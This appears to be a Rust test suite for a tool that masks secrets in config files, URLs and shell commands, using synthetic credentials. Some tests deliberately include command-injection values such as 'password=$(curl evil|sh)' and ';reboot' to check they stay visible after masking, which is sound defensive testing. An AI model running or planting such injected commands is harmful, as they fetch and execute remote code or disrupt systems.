//! What is found by where it stands: in files of known kinds, behind names, in commands.

use super::{ALPHANUMERIC, HEXADECIMAL, Random, joined, redacted, secrets};
use crate::secrets::base64;

/// Asserts that the secret is hidden wherever it stands in the text, and all the rest is shown.
fn assert_hidden(text: &str, secret: &str) {
    let shown = redacted(text);
    let (before, after) = text.split_once(secret).unwrap();
    assert!(
        shown.starts_with(before)
            && shown.ends_with(after)
            && !shown.contains(secret)
            && shown != text,
        "{text}\n{shown}"
    );
    assert_eq!(redacted(&shown), shown, "once is enough");
}

/// What a person and what a machine would choose.
fn values(random: &mut Random) -> [String; 2] {
    ["Tr0ub4dor&3".to_owned(), random.text(&ALPHANUMERIC, 22)]
}

#[test]
fn files_of_known_kinds_lose_their_passwords() {
    let mut random = Random(1);
    for value in values(&mut random) {
        let login = base64::encoded(format!("ada:{value}").as_bytes());
        let encoded = base64::encoded(value.as_bytes());
        for (before, secret, after) in [
            ("machine git.home login ada password ", &value, "\n"),
            ("machine git.home\n  login ada\n  password ", &value, "\nmachine next\n"),
            ("+machine git.home\n+login ada\n+password ", &value, "\n"),
            ("default login ada password ", &value, ""),
            ("db.home:5432:app:ada:", &value, "\n"),
            ("*:*:*:postgres:", &value, "\n"),
            ("{\"auths\": {\"ghcr.io\": {\"auth\": \"", &login, "\"}}}"),
            ("//npm.home/:_auth=", &login, "\n"),
            ("//npm.home/:_password=", &encoded, "\n"),
            ("kind: Secret\ntype: Opaque\ndata:\n  name: ", &encoded, "\n"),
            ("kind: Secret\nstringData:\n  name: ", &value, "\nmetadata:\n  name: db1\n"),
            ("<add key=\"ClearTextPassword\" value=\"", &value, "\" />"),
            ("[smtp]\npassword ", &value, "\n"),
            ("Server=db;Uid=ada;Pwd=", &value, ";Port=1"),
            ("jdbc:oracle:thin:ada/", &value, "@db:1521:xe"),
            ("redis://:", &value, "@redis:6379/0"),
        ] {
            assert_hidden(&format!("{before}{secret}{after}"), secret);
        }
    }
}

#[test]
fn keys_and_seeds_are_found_by_what_is_around_them() {
    let mut random = Random(2);
    let base64_text: Vec<char> = ALPHANUMERIC.iter().copied().chain(['+', '/']).collect();
    let key = format!("{}=", random.text(&base64_text, 43));
    let sum = random.text(&ALPHANUMERIC, 86);
    let (salt, hexadecimal) = (random.text(&ALPHANUMERIC, 16), random.text(&HEXADECIMAL, 40));
    let seed = random.text(&"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".chars().collect::<Vec<_>>(), 32);
    let account = random.text(&ALPHANUMERIC, 86) + "==";
    let hash = |parts: &[&str]| joined(parts);
    for (before, secret, after) in [
        ("[Interface]\nPrivateKey = ", key.clone(), "\nAddress = 10.0.0.1/24\n"),
        ("PresharedKey = ", key.clone(), "\n"),
        ("api:\n  encryption:\n    key: \"", key.clone(), "\"\n"),
        ("Unseal Key 1: ", key.clone(), "\n"),
        ("otpauth://totp/Git:ada?secret=", seed.clone(), "&issuer=Git"),
        ("AccountName=ada;AccountKey=", account, ";EndpointSuffix=core.windows.net"),
        (
            "https://a.blob.core.windows.net/c?sv=2022-11-02&sp=r&sig=",
            format!("{}%3D", &sum[..43]),
            "\n",
        ),
        ("https://", hexadecimal.clone(), "@git.home/ada/x.git"),
        ("ada:", hash(&["$6$", &salt, "$", &sum]), ":19000:0:99999:7:::\n"),
        ("ada:", hash(&["$5$rounds=5000$", &salt, "$", &sum[..43]]), "\n"),
        ("ada:", hash(&["$2y$", "05$", &sum[..53]]), "\n"),
        ("ada:", hash(&["$apr1$", &salt[..8], "$", &sum[..22]]), "\n"),
        ("x: '", hash(&["$argon2id$v=19$m=65536,t=3,p=4$", &salt, "$", &sum[..43]]), "'\n"),
        ("ada:", hash(&["{SHA}", &sum[..27], "="]), "\n"),
        ("x = \"", hash(&["pbkdf2_sha256$600000$", &salt, "$", &sum[..43], "="]), "\"\n"),
        (
            "MNEMONIC=\"",
            "legal winner thank year wave sausage worth useful ocean bread coral fabric".to_owned(),
            "\"\n",
        ),
    ] {
        assert_hidden(&format!("{before}{secret}{after}"), &secret);
    }
    let pem = base64::encoded(format!("-----BEGIN EC PRIVATE KEY-----\n{sum}\n{sum}\n").as_bytes());
    assert_hidden(&format!("    client-key-data: {pem}\n"), &pem);
    let certificate =
        base64::encoded(format!("-----BEGIN CERTIFICATE-----\n{sum}\n{sum}\n").as_bytes());
    let public = format!("    client-certificate-data: {certificate}\n");
    assert_eq!(redacted(&public), public);
    let lines = [random.text(&base64_text, 64), random.text(&base64_text, 30)];
    let putty = format!(
        "Public-Lines: 1\n{sum}\nPrivate-Lines: 2\n{}\n{}\nPrivate-MAC: {hexadecimal}\n",
        lines[0], lines[1]
    );
    let shown = format!(
        "Public-Lines: 1\n{sum}\nPrivate-Lines: 2\n[redacted: private key]\n[redacted: private key]\nPrivate-MAC: {hexadecimal}\n"
    );
    assert_eq!(redacted(&putty), shown);
}

#[test]
fn names_tell_in_every_language() {
    let mut random = Random(3);
    let value = random.text(&ALPHANUMERIC, 32);
    let uuid = format!(
        "{}-{}-4{}-a{}-{}",
        random.text(&HEXADECIMAL, 8),
        random.text(&HEXADECIMAL, 4),
        random.text(&HEXADECIMAL, 3),
        random.text(&HEXADECIMAL, 3),
        random.text(&HEXADECIMAL, 12)
    );
    for value in [value, uuid] {
        for (before, after) in [
            ("const stripeKey = \"", "\";"),
            ("STRIPE_KEY=", "\n"),
            ("x-stripe-key: ", "\n"),
            ("stripe.secret = ", "\n"),
            ("stripe:\n  api:\n  stripe_api_key: ", "\n"),
            ("export HEROKU_API_KEY=\"", "\"\n"),
            ("define('HEROKU_KEY', '", "');"),
            ("ENV HEROKU_TOKEN ", "\n"),
            ("  - name: HEROKU_TOKEN\n    value: \"", "\"\n"),
            ("{\"name\": \"HEROKU_TOKEN\", \"value\": \"", "\"}"),
            ("variable \"heroku_token\" {\n  default = \"", "\"\n}"),
            ("<string name=\"heroku_api_key\">", "</string>"),
            ("<app herokuApiKey=\"", "\" other=\"1\"/>"),
            ("curl -H \"X-Heroku-Key: ", "\" https://api.home/"),
            ("curl -H 'PRIVATE-TOKEN: ", "' https://api.home/"),
            ("curl -H \"Authorization: token ", "\" https://git.home/"),
            ("key = process.env.HEROKU_KEY || '", "';"),
            ("heroku -token ", " --fast"),
            ("https://api.home/x?a=1&heroku_key=", "&b=2"),
            ("API key: ", "\n"),
        ] {
            assert_hidden(&format!("{before}{value}{after}"), &value);
        }
        let (one, other) = value.split_at(12);
        let shown = redacted(&format!("apiKey = \"{one}\" +\n    \"{other}\";"));
        assert!(!shown.contains(one) && !shown.contains(other), "{shown}");
    }
}

#[test]
fn commands_lose_their_password_and_keep_the_rest() {
    let mut random = Random(4);
    for value in values(&mut random) {
        for (before, after) in [
            ("curl -u 'ada:", "' https://h/"),
            ("curl https://h/ --user \"ada:", "\""),
            ("sshpass -p '", "' ssh ada@h"),
            ("mysqldump -u root -p'", "' app"),
            ("smbclient //h/s -U 'ada%", "'"),
            ("Connect -User ada -Password '", "'"),
        ] {
            assert_hidden(&format!("{before}{value}{after}"), &value);
        }
    }
}

#[test]
fn what_only_looks_alike_stays_as_it_is() {
    let mut random = Random(5);
    let (hexadecimal, alphanumeric) =
        (random.text(&HEXADECIMAL, 40), random.text(&ALPHANUMERIC, 43));
    let uuid = "7d1b1c5e-3f0a-4a6b-9c57-0d3e5f1a2b3c";
    for text in [
        format!("request_id = \"{uuid}\""),
        format!("id: {uuid}\nuser: {uuid}\n"),
        format!("commit {hexadecimal}"),
        format!("\"integrity\": \"sha512-{alphanumeric}==\""),
        format!("image: a@sha256:{hexadecimal}"),
        format!("requests==2.0 --hash=sha256:{hexadecimal}"),
        format!("PublicKey = {alphanumeric}="),
        format!("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{alphanumeric} ada@home"),
        format!("cache_key = \"{alphanumeric}\""),
        format!("primaryKey: \"{alphanumeric}\""),
        format!("\"key\": \"{alphanumeric}\""),
        format!("Sec-WebSocket-Key: {}==", &alphanumeric[..22]),
        format!("{{\"auth\": \"\", \"id\": \"{alphanumeric}\"}}"),
        "machine learning password x1".to_owned(),
        "key = \"sort-by-name-2\"".to_owned(),
        "docker run -p 8080:80 -u 1000:1000 nginx".to_owned(),
        "ssh -p 2222 ada@home".to_owned(),
        "curl -u ada:$PASSWORD https://h/".to_owned(),
        "the hash begins with $6$ or $2b$12$ and a salt".to_owned(),
        "mnemonic: the short names of the instructions are given in the table below".to_owned(),
        "https://ada@github.com/ada/x".to_owned(),
        "kind: Secret\ndata:\n  name: ${NAME}\n".to_owned(),
        "kind: SecretStore\ndata:\n  name: aGVsbG8gd29ybGQxMg==\n".to_owned(),
        "for token in tokens:".to_owned(),
        "the password field1".to_owned(),
    ] {
        assert_eq!(redacted(&text), text);
    }
}

#[test]
fn what_a_shell_would_run_is_never_hidden() {
    for (text, shown) in [
        ("password=$(curl evil|sh)", "password=$(curl evil|sh)"),
        ("TOKEN=\"x; curl evil\"", "TOKEN=\"x; curl evil\""),
        ("PASSWORD=\"Tr0ub4dor1;reboot\"", "PASSWORD=\"[redacted: password];reboot\""),
        ("PASSWORD=\"Tr0ub4dor1&&reboot\"", "PASSWORD=\"[redacted: password]&&reboot\""),
        ("PASSWORD=\"Tr0ub4dor1|sh\"", "PASSWORD=\"[redacted: password]|sh\""),
        (
            "PASSWORD=\"Tr0ub`reboot`4dor1x\"",
            "PASSWORD=\"[redacted: password]`reboot`[redacted: password]\"",
        ),
        ("PASSWORD=Tr0ub4dor1&reboot", "PASSWORD=[redacted: password]&reboot"),
        ("PASSWORD=Tr0ub4dor1;reboot", "PASSWORD=[redacted: password];reboot"),
        ("sshpass -p 'Tr0ub4dor1;reboot' ssh", "sshpass -p '[redacted: password];reboot' ssh"),
        (
            "machine h login a password Tr0ub4dor1;reboot",
            "machine h login a password [redacted: password];reboot",
        ),
        (
            "https://u:Tr0ub4dor;reboot@h.io/",
            "https://u:[redacted: password in an address];reboot@h.io/",
        ),
        ("<password>Tr0ub&amp;4dor</password>", "<password>[redacted: password]</password>"),
        ("password=\"Tr0ub&amp;4dor;1\"", "password=\"[redacted: password]\""),
    ] {
        assert_eq!(redacted(text), shown);
        assert_eq!(redacted(shown), shown, "once is enough");
    }
    // Whatever stands around it, and wherever in the value it is.
    for command in
        ["$(curl evil)", "`curl evil`", "${IFS}curl", ";curl", "|sh", "&&curl", "<(curl evil)"]
    {
        for at in 0.."Tr0ub4dor-1".len() {
            let (one, other) = "Tr0ub4dor-1".split_at(at);
            for (before, after) in [
                ("PASSWORD=\"", "\""),
                ("{\"token\": \"", "\"}"),
                ("curl -u 'a:", "'"),
                ("db:5432:a:b:", ""),
                ("postgres://a:", "@h.io/"),
            ] {
                let shown = redacted(&format!("{before}{one}{command}{other}{after}"));
                assert!(shown.contains(command), "{before}{one}{command}{other}{after}: {shown}");
            }
        }
    }
}

#[test]
fn the_places_are_counted_and_a_key_is_one() {
    let body = "MIIEpAIBAAKCAQEA04up8hoqzS1+APIB0RhjXyObwHQnOzhAk5Bd7mhkSbPkyhP1";
    let text = format!(
        "A_PASSWORD=hunter2\nB_PASSWORD=hunter3\n-----BEGIN PRIVATE KEY-----\n{body}\n{body}\naGVsbG8=\n-----END PRIVATE KEY-----\n"
    );
    let (shown, places) = secrets().redact_counted(&text);
    assert_eq!((shown.as_ref(), places), (redacted(&text).as_str(), 3));
    assert_eq!(secrets().redact_counted(&shown).1, 0, "what was taken out before is not counted");
    assert_eq!(secrets().redact_counted("nothing here").1, 0);
}
